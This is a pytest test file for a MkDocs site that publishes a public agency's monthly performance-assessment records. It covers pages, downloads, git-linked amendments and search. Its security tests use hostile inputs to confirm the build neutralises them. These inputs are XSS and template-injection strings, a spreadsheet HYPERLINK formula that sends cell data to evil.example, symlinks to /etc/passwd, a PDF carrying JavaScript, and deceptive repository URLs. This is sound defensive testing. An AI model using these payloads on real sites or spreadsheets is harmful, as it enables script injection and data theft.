"""The published site, built for real with MkDocs from a copy of the example records.

The example project is made a git repository of two commits: the records as first
published (appeal 2026-002's finding still deducting a point, its month sealed so) and
the amendment after the appeal (``(#12)``), so the history, the commit links and the
appeal's figures before and after are real. Other builds cover a tarball (no git),
a shallow clone, hostile record text, English, and records with errors.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
from decimal import Decimal
from html import unescape
from pathlib import Path
from urllib.parse import unquote, urljoin, urlsplit

import hostile
import openpyxl
import pytest
import yaml
from gitrepo import commit_all, git, init
from PIL import Image
from sitebuild import Document, build, kaoping, make_project, parse

from scoring.site.data import safe_repository_url

REPOSITORY = "https://github.com/example/performance"
SUBJECT = "records/2026-05/inspections/2026-05-14-bike-shed.yaml"


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new), encoding="utf-8")


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example as a repository with an amendment after appeal 2026-002, built strictly."""
    project = make_project(tmp_path_factory.mktemp("example"), repository=False)
    subject = project / SUBJECT
    original = subject.read_text(encoding="utf-8")
    seal = (project / "records/2026-05/seal.yaml").read_text(encoding="utf-8")
    _replace(
        subject, "    rectify_by: 2026-05-21\n", "    deduction: 1\n    rectify_by: 2026-05-21\n"
    )
    sealed = kaoping(project, "seal", "2026-05", "--write")
    assert sealed.returncode == 0, sealed.stderr.decode()
    init(project)
    commit_all(project, "Records as published", date="2026-06-01T09:00:00+08:00")
    subject.write_text(original, encoding="utf-8")
    (project / "records/2026-05/seal.yaml").write_text(seal, encoding="utf-8")
    commit_all(project, "Appeal 2026-002 upheld (#12)", date="2026-06-10T09:00:00+08:00")
    result = build(project, "--strict")
    assert result.returncode == 0, result.stderr
    return project


def page(project: Path, address: str) -> Document:
    return parse(project / "public" / address / "index.html")


def results(project: Path) -> dict:
    return json.loads((project / "public/downloads/results.json").read_text(encoding="utf-8"))


def test_pages_exist_at_their_addresses(example: Path) -> None:
    public = example / "public"
    months = sorted(
        p.name for p in (example / "records").iterdir() if re.match(r"\d{4}-\d{2}$", p.name)
    )
    org = yaml.safe_load((example / "records/org.yaml").read_text(encoding="utf-8"))
    contracts = [p.stem for p in (example / "records/services").glob("*.yaml")]
    addresses = [
        "",
        "months",
        "departments",
        "services",
        "rules",
        "appeals",
        "history",
        "downloads",
    ]
    addresses += [f"months/{m}" for m in months]
    addresses += [f"departments/{d['id']}" for d in org["departments"]]
    addresses += [f"services/{c}" for c in contracts]
    for address in addresses:
        assert (public / address / "index.html").is_file(), address
    for name in ("results.json", "results.csv", "results.xlsx"):
        assert (public / "downloads" / name).is_file()


def test_downloads_are_the_score_output(example: Path) -> None:
    public = example / "public/downloads"
    as_json = kaoping(example, "score", "--format", "json")
    assert as_json.returncode == 0
    assert (public / "results.json").read_bytes() == as_json.stdout
    # results.csv is the months table written for people (§7): a byte-order mark, the
    # organisation's headers and words; the same rows and figures as score's csv
    as_csv = kaoping(example, "score", "--format", "csv")
    programs = list(csv.DictReader(io.StringIO(as_csv.stdout.decode("utf-8"))))
    people_bytes = (public / "results.csv").read_bytes()
    assert people_bytes.startswith(b"\xef\xbb\xbf") and not as_csv.stdout.startswith(b"\xef")
    people = list(csv.DictReader(io.StringIO(people_bytes.decode("utf-8-sig"))))
    assert [(r["月份"], r["科室编号"], r["总分"]) for r in people] == [
        (r["month"], r["department"], r["total"]) for r in programs
    ]
    assert {r["状态"] for r in people} <= {"填报中", "考核中", "已公布", "已归档"}
    assert {r["数据完整"] for r in people} <= {"是", "否"}
    workbook = openpyxl.load_workbook(public / "results.xlsx")
    assert "2026-10" in workbook.sheetnames
    links = page(example, "downloads").links()
    assert {"results.json", "results.csv", "results.xlsx"} <= set(links)


def _league(document: Document) -> dict[str, dict[str, str]]:
    rows: dict[str, dict[str, str]] = {}
    current = None
    for element in document.elements:
        if element.tag == "tr" and "data-department" in element.attrs:
            current = rows.setdefault(element.attrs["data-department"], {})
        elif element.tag == "td" and "data-figure" in element.attrs and current is not None:
            current[element.attrs["data-figure"]] = element.text.strip()
    return rows


def _same_figure(cell: str, value: object) -> bool:
    """A table cell shows a figure with its column's decimals (98.60 for 98.6)."""
    if value is None:
        return cell == "–"
    return Decimal(cell) == Decimal(str(value))


def test_home_shows_the_latest_published_league_and_the_current_month(example: Path) -> None:
    data = results(example)
    latest = [m for m in data["months"] if m["status"] in ("published", "closed")][-1]
    home = page(example, "")
    league = _league(home)
    assert set(league) == {d["department"] for d in latest["departments"]}
    for department in latest["departments"]:
        row = league[department["department"]]
        for figure in (
            "business",
            "public",
            "indicator",
            "leader",
            "deductions",
            "bonus",
            "total",
            "rank",
        ):
            assert _same_figure(row[figure], department[figure]), (department["department"], figure)
    current = data["months"][-1]
    assert "当前月份：2026年11月" in home.text and "考核中" in home.text
    for department in current["departments"]:
        for path in department["missing"]:
            assert path in home.text
    assert "2026年10月考评结果" in home.text


def test_month_page_shows_every_operand(example: Path) -> None:
    month = page(example, "months/2026-10")
    text = month.text
    assert month.find("h3", id="security")
    assert "消防设施巡查" in text  # a target title
    assert "消防通道堆放废旧办公桌椅10余件" in text  # a finding
    assert "扣 1 分" in text and "已于 2026年10月16日 整改" in text
    assert "不公布每位领导的评分" in text and "4 位领导评价，平均 92.63 分" in text
    photos = [e for e in month.find("a") if "data-kp-lightbox" in e.attrs]
    assert photos
    for photo in photos:
        assert (example / "public/months/2026-10" / photo.attrs["href"]).is_file()
    assert "2026-005" in text  # the appeal about the month's fire-lane finding
    assert month.find("h2", id="_services") and "机关大院绿化养护" in text


def test_explanations_link_records_and_commits(example: Path) -> None:
    sha = git(example, "log", "-1", "--format=%H", "--", "records/2026-10/assessments/admin.yaml")
    month = page(example, "months/2026-10")
    links = month.links()
    # a month page links each record file once, at its last commit; lines are named in text
    assert f"{REPOSITORY}/blob/{sha}/records/2026-10/assessments/admin.yaml" in links
    assert f"{REPOSITORY}/commit/{sha}" in links
    blobs = [link for link in links if "/blob/" in link]
    assert blobs and len(blobs) == len(set(blobs))
    explained = kaoping(example, "explain", "admin", "2026-10")
    assert explained.returncode == 0
    block = next(e for e in month.elements if e.attrs.get("id") == "admin_explain")
    assert "2026-10/assessments/admin.yaml:4" in block.text
    department = page(example, "departments/security")  # a finding links its line there
    assert any(
        re.search(r"/blob/[0-9a-f]{40}/records/2026-10/inspections/.*#L\d+$", link)
        for link in department.links()
    )
    for line in explained.stdout.decode().splitlines()[1:]:
        assert line.strip().split("  [")[0] in block.text


def test_department_page(example: Path) -> None:
    department = page(example, "departments/security")
    total_chart, rank_chart = (
        json.loads(e.attrs["data-chart"]) for e in department.elements if "data-chart" in e.attrs
    )
    # final totals as the line, the provisional month apart; ranks on a chart of their own
    assert [s["name"] for s in total_chart["series"]] == ["总分", "暂定"]
    assert [s["name"] for s in rank_chart["series"]] == ["名次", "暂定"]
    data = results(example)
    final = ("published", "closed")
    totals = [
        next(d["total"] for d in m["departments"] if d["department"] == "security")
        for m in data["months"]
    ]
    counted = [m["status"] in final for m in data["months"]]
    assert total_chart["series"][0]["data"] == [
        t if c else None for t, c in zip(totals, counted, strict=True)
    ]
    assert total_chart["series"][1]["data"] == [
        None if c else t for t, c in zip(totals, counted, strict=True)
    ]
    assert rank_chart["yAxis"]["inverse"] and "yAxis" in total_chart
    assert any("months/2026-10/#2026-10-14-fire-lane_F1" in link for link in department.links())
    assert "连续" in department.text and "工作无差错" in department.text
    green = page(example, "departments/green")
    assert any(link.endswith("services/greening-2026/") for link in green.links())


def test_contract_pages(example: Path) -> None:
    index = page(example, "services")
    assert "机关大院绿化养护" in index.text
    contract = page(example, "services/greening-2026")
    text = contract.text
    assert "草坪修剪平整、无杂草" in text and "监管科室检查" in text
    assert "48,000.00" in text
    assert any("data-chart" in e.attrs for e in contract.elements)
    assert "2026年度" in text


def test_rules_page(example: Path) -> None:
    rules = page(example, "rules").text
    for expected in (
        "政治学习",
        "2026年7月",
        "0.75",
        "优秀",
        "30%",
        "连续3个月无扣分",
        "占用消防通道",
        "第三方监督轮值",
        "付款档次",
    ):
        assert expected in rules, expected


def test_appeals_show_amendments_with_figures(example: Path) -> None:
    appeals = page(example, "appeals")
    entry = next(e for e in appeals.elements if e.tag == "section" and "2026-002" in e.text)
    assert "Appeal 2026-002 upheld (#12)" in entry.text
    assert f"{REPOSITORY}/pull/12" in appeals.links()
    may = next(m for m in results(example)["months"] if m["month"] == "2026-05")
    admin = next(d for d in may["departments"] if d["department"] == "admin")
    after = Decimal(str(admin["total"]))
    rows = [e.text for e in appeals.elements if e.tag == "tr"]  # only 2026-002 was amended
    assert "扣分10-1" in rows  # figure, before, after, change
    assert f"总分{after - 1}{after}+1" in rows
    assert "申诉提出后未修改申诉事项" in appeals.text  # the other appeals


def test_history_page(example: Path) -> None:
    history = page(example, "history")
    assert "Records as published" in history.text
    assert f"{REPOSITORY}/pull/12" in history.links()
    assert history.find("tbody", id="org.yaml")  # organisation-wide records on history/ itself
    assert "2026-05/" in history.links()  # each month's records on their own page
    may = page(example, "history/2026-05")
    assert may.find("tbody", id="2026-05/inspections/2026-05-14-bike-shed.yaml")
    assert "Appeal 2026-002 upheld (#12)" in may.text and f"{REPOSITORY}/pull/12" in may.links()


def test_record_pages_are_searched_by_compact_entries(example: Path) -> None:
    """Record pages' full text stays out of the index; their names, titles and findings do not."""
    index = json.loads((example / "public/search/search_index.json").read_text(encoding="utf-8"))
    entries = {entry["location"]: entry for entry in index["docs"]}
    assert entries["departments/security/"]["boost"] == 2
    october = entries["months/2026-10/#security"]
    assert "保卫处" in october["title"]
    text = october["text"].replace("\u200b", "")  # jieba's word boundaries
    assert "消防设施巡查" in text and "消防通道堆放废旧办公桌椅10余件" in text
    assert "\u200b" in october["text"]
    assert not [location for location in entries if location.startswith("months/2026-10/#_")]
    assert not [location for location in entries if location.startswith("history/2026-")]
    assert any(location.startswith("rules/") for location in entries)  # indexed in full
    for address in ("months/2026-10", "departments/security", "history/2026-05"):
        source = (example / "public" / address / "index.html").read_text(encoding="utf-8")
        assert "kp-league" in source or "kp-history" in source or "kp-chart" in source


def test_record_pages_stay_out_of_the_navigation(example: Path) -> None:
    home = (example / "public/index.html").read_text(encoding="utf-8")
    nav = home[home.index("md-nav--primary") : home.index("md-sidebar--secondary")]
    assert "months/2026-10/" not in nav and "departments/admin/" not in nav
    for entry in ("月度考评", "科室", "社会化服务", "考评规则", "申诉复议", "修改记录", "下载"):
        assert entry in nav


def test_nothing_is_loaded_from_another_host(example: Path) -> None:
    for html in (example / "public").rglob("*.html"):
        document = parse(html)
        for element in document.elements:
            for attribute in ("src", "href"):
                value = element.attrs.get(attribute, "")
                if element.tag == "a":
                    assert not value.lower().startswith("javascript:")
                    continue
                assert not re.match(r"^(https?:)?//", value), (html, element)
    css = "".join(p.read_text(encoding="utf-8") for p in (example / "public").rglob("*.css"))
    assert "fonts.googleapis" not in css and "@import url(http" not in css


def test_no_repository_means_no_history(tmp_path: Path) -> None:
    project = make_project(tmp_path / "tarball", repository=False)
    result = build(project, "--strict")
    assert result.returncode == 0, result.stderr
    assert "记录不在 git 仓库中" in page(project, "history").text
    assert "记录不在 git 仓库中" in page(project, "appeals").text
    assert "data-records-commit" not in (project / "public/index.html").read_text("utf-8")
    assert "本通报由考评记录生成。" in page(project, "months/2026-10/report").text  # no version


def test_shallow_clone_is_a_build_warning(tmp_path: Path) -> None:
    origin = make_project(tmp_path / "origin")
    (origin / "site/about.zh.md").write_text("# 关于\n\n第二版\n", encoding="utf-8")
    commit_all(origin, "Second")
    clone = tmp_path / "clone"
    subprocess.run(
        ["git", "clone", "-q", "--depth", "1", f"file://{origin}", str(clone)], check=True
    )
    strict = build(clone, "--strict")
    assert strict.returncode != 0
    assert "shallow" in strict.stderr
    assert build(clone).returncode == 0


def _guarded_build(project: Path) -> subprocess.CompletedProcess[str]:
    """``mkdocs build --strict`` under 1 GiB of address space and a timeout."""
    return subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict"],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=hostile.limit_memory,
    )


def test_hostile_evidence_and_cache_are_not_published(tmp_path: Path) -> None:
    """A PDF with /OpenAction JavaScript, and a cache made of links to /etc/passwd and
    /dev/zero: the build passes, publishes neither, and reads neither; the same cache
    committed (``git add -f``) is refused before anything is built."""
    project = make_project(tmp_path / "hostile")
    evidence = project / "records/2026-10/evidence"
    (evidence / "notice.pdf").write_bytes(hostile.PDF_WITH_SCRIPT)
    _replace(
        project / "records/2026-10/inspections/2026-10-14-fire-lane.yaml",
        "evidence: [fire-lane-1.jpg]",
        "evidence: [fire-lane-1.jpg, notice.pdf]",
    )
    pdf_digest = hashlib.sha256(hostile.PDF_WITH_SCRIPT).hexdigest()
    photo_digest = hashlib.sha256((evidence / "fire-lane-1.jpg").read_bytes()).hexdigest()
    links = {
        f".cache/kaoping/photos/{photo_digest}-1.jpg": "/etc/passwd",
        f".cache/kaoping/photos/{photo_digest}-2.jpg": "/etc/passwd",
        f".cache/kaoping/photos/{pdf_digest}-1.pdf": "/etc/passwd",
        ".cache/kaoping/photos/unreadable-1.png": "/etc/passwd",
        ".cache/kaoping/validate.pickle": "/dev/zero",
    }
    for path, target in links.items():
        (project / path).parent.mkdir(parents=True, exist_ok=True)
        (project / path).symlink_to(target)
    (project / ".gitignore").write_text(".cache/\npublic/\n", encoding="utf-8")
    commit_all(project, "Evidence")
    result = _guarded_build(project)
    assert result.returncode == 0, result.stderr[-3000:]
    public = project / "public"
    assert not list(public.rglob("*.pdf"))
    for path in public.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert b"root:x:0:0" not in data and b"app.alert" not in data, path
    with Image.open(public / "months/2026-10/evidence/fire-lane-1.jpg") as image:
        assert image.format == "JPEG"
    month = page(project, "months/2026-10")
    kept = [e for e in month.elements if "kp-kept" in e.attrs.get("class", "")]
    assert kept and kept[0].attrs["data-sha256"] == pdf_digest
    assert "notice.pdf" in kept[0].text and pdf_digest in kept[0].text
    assert "原件保存在仓库中" in kept[0].text
    assert not [link for link in month.links() if "notice.pdf" in link]
    listing = (public / "downloads/evidence.sha256").read_text(encoding="utf-8")
    assert f"{pdf_digest}  2026-10/evidence/notice.pdf\n" in listing
    for path, target in links.items():  # the build replaced none of them through a link
        if (project / path).is_symlink():
            assert os.readlink(project / path) == target
    git(project, "add", "-f", ".cache")
    git(project, "commit", "-q", "-m", "The cache, force-added")
    refused = _guarded_build(project)
    assert refused.returncode == 1 and "Traceback" not in refused.stderr
    assert refused.stderr.count("[tracked-cache]") == len(
        git(project, "ls-files", ".cache").splitlines()
    )


def test_record_text_stays_inert(tmp_path: Path) -> None:
    project = make_project(tmp_path / "hostile", repository=False)
    hostile = '"<script>alert(1)</script></title><img src=x onerror=alert(2)>{{ 7*7 }} **b** [x](javascript:alert(3))"'
    long_word = "消防" * 200 + "x" * 400
    right_to_left = "عربي مرحبا עברית"
    _replace(
        project / "records/org.yaml", "{id: admin, name: 行政科,", f"{{id: admin, name: {hostile},"
    )
    formula = '=HYPERLINK("http://evil.example/?"&A1,"保卫处")'
    _replace(
        project / "records/org.yaml",
        "{id: security, name: 保卫处,",
        f"{{id: security, name: '{formula}',",
    )
    _replace(
        project / "records/2026-10/assessments/admin.yaml",
        "  R4: {score: 10}",
        f"  R4: {{score: 9, reason: {hostile}}}",
    )
    _replace(
        project / "records/2026-10/assessments/admin.yaml",
        "  R3: {score: 10}",
        f'  R3: {{score: 9, reason: "{right_to_left} {long_word} {{% raw %}} ${{x}} <!-- c -->"}}',
    )
    result = build(project, "--strict")
    assert result.returncode == 0, result.stderr
    for html in (project / "public").rglob("*.html"):
        raw = html.read_text(encoding="utf-8")
        assert "<script>alert" not in raw and "<img src=x" not in raw and "{{ 7*7 }}" not in raw
    index = (project / "public/search/search_index.json").read_text(encoding="utf-8")
    assert "<script>" not in index and "<img" not in index  # search results show it as HTML
    assert "&lt;script&gt;" in index
    month = page(project, "months/2026-10")
    assert "<script>alert(1)</script></title><img src=x onerror=alert(2)>{{ 7*7 }}" in month.text
    assert not [link for link in month.links() if link.lower().startswith("javascript")]
    assert right_to_left in month.text and long_word in month.text and "{% raw %}" in month.text
    title = next(e for e in page(project, "departments/admin").elements if e.tag == "title")
    assert title.text.startswith("<script>alert(1)</script></title>")
    # the downloads write a name that a spreadsheet would read as a formula as text
    downloads = project / "public/downloads"
    rows = csv.DictReader(io.StringIO((downloads / "results.csv").read_text(encoding="utf-8-sig")))
    names = {row["名称"] for row in rows if row["科室编号"] == "security"}
    assert names == {"'" + formula}
    book = openpyxl.load_workbook(downloads / "results.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + formula in {cell.value for cell in cells}


@pytest.mark.parametrize(
    ("url", "code", "shown"),
    [
        ("javascript:alert(1)//", "repository-url", "javascript:alert"),
        (
            "https://github.com@evil.example/example/performance",
            "repository-userinfo",
            "evil.example",
        ),
    ],
)
def test_unsafe_repository_url_is_refused(tmp_path: Path, url: str, code: str, shown: str) -> None:
    project = make_project(tmp_path / "unsafe")
    _replace(project / "records/org.yaml", f"repository: {REPOSITORY}", f'repository: "{url}"')
    commit_all(project, "Unsafe repository URL")
    result = build(project)
    assert result.returncode != 0 and code in result.stderr  # validation refuses it
    for html in (project / "public").rglob("*.html"):
        assert shown not in html.read_text(encoding="utf-8").replace("&#58;", ":")


def test_site_builds_no_link_from_an_invalid_repository_url() -> None:
    assert safe_repository_url("https://github.com/example/performance.git/") == REPOSITORY
    for url in ("https://github.com@evil.example/x", "https://github.com\\@evil.example/x",
                "javascript:alert(1)//", "https://github.com/x?y", None, ""):  # fmt: skip
        assert safe_repository_url(url) is None, url


def test_records_with_errors_are_not_published(tmp_path: Path) -> None:
    project = make_project(tmp_path / "broken", repository=False)
    _replace(
        project / "records/2026-10/assessments/admin.yaml", "  R4: {score: 10}", "  R4: {score: 99}"
    )
    result = build(project)
    assert result.returncode != 0
    assert "validation errors" in result.stderr and "admin.yaml" in result.stderr


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def _fetch(url: str) -> str:
    with urllib.request.urlopen(url, timeout=5) as response:  # noqa: S310 (local server)
        return response.read().decode("utf-8")


def _wait_for(url: str, text: str, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            if text in _fetch(url):
                return True
        except OSError:
            pass
        time.sleep(0.5)
    return False


def test_serve_rebuilds_when_a_record_changes(tmp_path: Path) -> None:
    project = make_project(tmp_path / "serve", repository=False)
    port = _free_port()
    # --livereload explicitly: with click >= 8.2.2 MkDocs 1.6.1 forgets its own default
    # (mkdocs/mkdocs#4032); the records folder is watched by the kaoping plugin alone.
    server = subprocess.Popen(
        [sys.executable, "-m", "mkdocs", "serve", "--livereload", "-a", f"127.0.0.1:{port}"],
        cwd=project,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )
    try:
        url = f"http://127.0.0.1:{port}/departments/admin/"
        assert _wait_for(url, "行政科", 120)
        _replace(
            project / "records/org.yaml",
            "{id: admin, name: 行政科,",
            "{id: admin, name: 行政服务科,",
        )
        assert _wait_for(url, "行政服务科", 120)
        assert not list(project.joinpath("site").rglob("months"))  # nothing written into docs_dir
    finally:
        server.terminate()
        server.wait(timeout=30)


def test_published_photos_carry_no_metadata(example: Path) -> None:
    """The original keeps its GPS tag in git; the published copy has none and its hash is listed."""
    from PIL import Image

    original = example / "records/2026-04/evidence/fire-lane-1.jpg"
    published = example / "public/months/2026-04/evidence/fire-lane-1.jpg"
    assert Image.open(original).getexif().get_ifd(0x8825)  # GPS in the original
    with Image.open(published) as image:
        assert not image.getexif() and "exif" not in image.info
        assert image.width <= 1600
    digest = hashlib.sha256(original.read_bytes()).hexdigest()
    listing = (example / "public/downloads/evidence.sha256").read_text(encoding="utf-8")
    assert f"{digest}  2026-04/evidence/fire-lane-1.jpg\n" in listing
    assert f'data-sha256="{digest}"' in (example / "public/months/2026-04/index.html").read_text(
        encoding="utf-8"
    )


def test_month_page_shows_its_seal_and_amendments(example: Path) -> None:
    text = (example / "public/months/2026-05/index.html").read_text(encoding="utf-8")
    seal = next(
        line.split(": ", 1)[1]
        for line in (example / "records/2026-05/seal.yaml").read_text(encoding="utf-8").splitlines()
        if line.startswith("seal: ")
    )
    assert f"<code>{seal}</code>" in text
    assert "已封存;记录仍给出完全相同的输入和结果" in text
    amendments = unescape(text[text.index('id="_amendments"') :])
    assert "Appeal 2026-002 upheld (#12)" in amendments
    assert "2026-05/inspections/2026-05-14-bike-shed.yaml" in amendments
    assert "Records as published" not in amendments
    october = (example / "public/months/2026-10/index.html").read_text(encoding="utf-8")
    assert "尚未封存" in october and "本月记录自公布以来没有修改。" in october


def test_every_internal_link_and_anchor_resolves(example: Path) -> None:
    """No page links to a page or an anchor that is not there (the history anchors of
    files still missing, say)."""
    public = example / "public"
    documents = {path: parse(path) for path in public.rglob("*.html")}
    ids = {
        path: {e.attrs["id"] for e in document.elements if "id" in e.attrs}
        for path, document in documents.items()
    }
    broken = []
    for path, document in documents.items():
        base = "http://site/" + path.relative_to(public).as_posix()
        for href in document.links():
            target = urlsplit(urljoin(base, href))
            if target.netloc != "site":
                continue
            file = public / unquote(target.path).lstrip("/")
            file = file / "index.html" if file.is_dir() else file
            if not file.exists():
                broken.append((path.relative_to(public), href))
            elif target.fragment and file in ids and unquote(target.fragment) not in ids[file]:
                broken.append((path.relative_to(public), href))
    assert broken == []


def test_search_entries_of_a_month_page_start_with_the_page(example: Path) -> None:
    """Material groups a page's sections under its entry without an anchor; without one
    every hit in the page links to /undefined."""
    index = json.loads((example / "public/search/search_index.json").read_text(encoding="utf-8"))
    seen: set[str] = set()
    for entry in index["docs"]:
        page_location, _, anchor = entry["location"].partition("#")
        if anchor:
            assert page_location in seen, entry["location"]
        else:
            seen.add(page_location)
    months = [p.name for p in (example / "records").iterdir() if re.match(r"\d{4}-\d{2}$", p.name)]
    assert {f"months/{month}/" for month in months} <= seen


def test_monthly_reports(example: Path) -> None:
    for month in ("2026-05", "2026-10", "2026-11"):
        report = page(example, f"months/{month}/report")
        title = next(e for e in report.elements if e.tag == "h1").text
        assert title.startswith("示例市机关事务管理局") and title.endswith("内部绩效考评通报")
        assert "本通报由考评记录生成" in report.text
    home = (example / "public/index.html").read_text(encoding="utf-8")
    nav = home[home.index("md-nav--primary") : home.index("md-sidebar--secondary")]
    assert "report/" not in nav
    index = (example / "public/search/search_index.json").read_text(encoding="utf-8")
    assert "/report/" not in index


def test_footer_names_the_last_commit_that_changed_the_records(example: Path) -> None:
    sha = git(example, "log", "-1", "--format=%H", "--", "records")
    for html in (example / "public").rglob("*.html"):
        version = [e for e in parse(html).elements if "data-records-commit" in e.attrs]
        assert [e.attrs["data-records-commit"] for e in version] == [sha], html
        assert f"提交 {sha[:7]}" in version[0].text and "2026年6月10日" in version[0].text


def test_rendering_of_guides_downloads_seal_and_404(example: Path) -> None:
    guide = next(e for e in page(example, "guide/department").find("pre") if "kind: key" in e.text)
    assert len(guide.text.strip().splitlines()) >= 8
    leader = next(e for e in page(example, "guide/leader").find("pre"))
    assert len(leader.text.strip().splitlines()) >= 4
    assert "`" not in page(example, "downloads").text
    codes = [e.text for e in page(example, "downloads").elements if e.tag == "code"]
    assert "kaoping score --format json" in codes
    seal = page(example, "months/2026-05")
    assert "`" not in seal.text and "kaoping seal 2026-05" in [e.text for e in seal.find("code")]
    not_found = parse(example / "public/404.html")
    assert [e.text for e in not_found.elements if e.tag == "h1"] == ["404：页面不存在"]
    assert "Not found" not in not_found.text


def test_tables_name_their_columns_and_photos_say_what_they_show(example: Path) -> None:
    for html in (example / "public").rglob("*.html"):
        document = parse(html)
        headers = [e for e in document.elements if e.tag == "th"]
        assert all(e.text.strip() for e in headers), html
        for image in document.find("img"):
            alt = image.attrs.get("alt", "")
            assert alt and not re.search(r"\.(jpe?g|png|gif|webp)$", alt, re.I), (html, alt)
